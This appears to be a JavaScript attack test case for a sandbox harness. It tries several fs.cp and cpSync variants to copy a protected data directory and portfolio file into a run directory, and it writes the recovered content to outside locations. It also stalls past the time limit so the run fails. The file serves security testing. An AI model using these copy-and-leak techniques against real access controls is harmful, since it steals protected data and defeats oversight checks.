/* @attack {"title": "fs.cp / cpSync / promises.cp of the whole lakehouse (and of the file) into the run dir, then read the copy", "maxSeconds": 20} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();
const CANDIDATES = 'data/lakehouse/portfolio_candidates.json';

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

async function attempt(how, read) {
  try {
    await exfiltrate(how, await read());
  } catch (error) {
    console.log(`${how}: ${error.code ?? error.message}`);
  }
}

const viaCallback = (call) => new Promise((resolve, reject) => call((error, value) => (error ? reject(error) : resolve(value))));
const copies = [
  ['cpSync recursive', `${run}/copy1`, () => fs.cpSync('data/lakehouse', `${run}/copy1`, { recursive: true })],
  ['cpSync filter yes', `${run}/copy2`, () => fs.cpSync('data/lakehouse', `${run}/copy2`, { recursive: true, filter: () => true })],
  ['cpSync dereference', `${run}/copy3`, () => fs.cpSync('data/lakehouse/', `${run}/copy3`, { recursive: true, dereference: true, force: true })],
  ['cp callback', `${run}/copy4`, () => viaCallback((cb) => fs.cp('data/lakehouse', `${run}/copy4`, { recursive: true }, cb))],
  ['promises.cp', `${run}/copy5`, () => fs.promises.cp('data/lakehouse', `${run}/copy5`, { recursive: true })],
  ['cpSync the file', `${run}/copy6`, () => fs.cpSync(CANDIDATES, `${run}/copy6/portfolio_candidates.json`)],
  ['cpSync ohlcv/..', `${run}/copy7`, () => fs.cpSync('data/lakehouse/ohlcv/..', `${run}/copy7`, { recursive: true })],
];
for (const [how, dest, copy] of copies) {
  try {
    await copy();
    console.log(`${how}: copied`);
  } catch (error) {
    console.log(`${how}: ${error.code}`);
  }
  await attempt(`${how} then read`, () => fs.readFileSync(`${dest}/portfolio_candidates.json`));
}
